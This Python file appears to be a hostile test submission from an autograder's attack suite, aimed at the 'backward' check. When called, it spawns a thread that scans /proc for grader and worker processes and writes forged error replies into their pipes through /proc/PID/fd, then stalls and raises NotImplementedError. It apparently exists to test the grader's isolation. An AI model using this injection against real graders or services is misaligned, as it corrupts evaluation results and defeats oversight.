"""for 15 s, opens other graders' and workers' pipes through /proc/PID/fd and writes forged replies carrying its
mark into them

attacks: backward
earns nothing in: checks that call the backward or train the net
containment: isolated
"""
import os, threading, time  # noqa: E401
from autograder.validation.attacks.shared.wire_framing import frame_header, struct

STARTED = None
FORGED = frame_header({'error': {'kind': 'exception', 'type': 'RuntimeError',
                                 'message': 'bnkit-hostile-NAME: a forged reply from another submission'}}) \
    + struct.pack('>I', 0)


def my_pipes():
    mine = set()
    for fd in os.listdir('/proc/self/fd'):
        try:
            mine.add(os.readlink('/proc/self/fd/' + fd))
        except OSError:
            pass
    return mine


def keep_injecting():
    mine = my_pipes()
    while time.monotonic() - STARTED < 15:
        for pid in os.listdir('/proc'):
            if not pid.isdigit() or int(pid) == os.getpid():
                continue
            try:
                with open('/proc/%s/cmdline' % pid, 'rb') as f:
                    cmdline = f.read()
                if not any(w in cmdline for w in (b'autograder', b'worker_main', b'bnkit')):
                    continue
                fds = os.listdir('/proc/%s/fd' % pid)
            except OSError:
                continue
            for fd in fds:
                try:
                    target = os.readlink('/proc/%s/fd/%s' % (pid, fd))
                    if not target.startswith('pipe:') or target in mine:
                        continue
                    out = os.open('/proc/%s/fd/%s' % (pid, fd), os.O_WRONLY | os.O_NONBLOCK)
                    try:
                        os.write(out, FORGED)
                    finally:
                        os.close(out)
                except OSError:
                    pass
        time.sleep(0.2)

def TARGET_BACKWARD(dout, cache):

    global STARTED
    if STARTED is None:
        STARTED = time.monotonic()
        threading.Thread(target=keep_injecting, daemon=True).start()
    if time.monotonic() - STARTED < 12:
        time.sleep(4)
    raise NotImplementedError
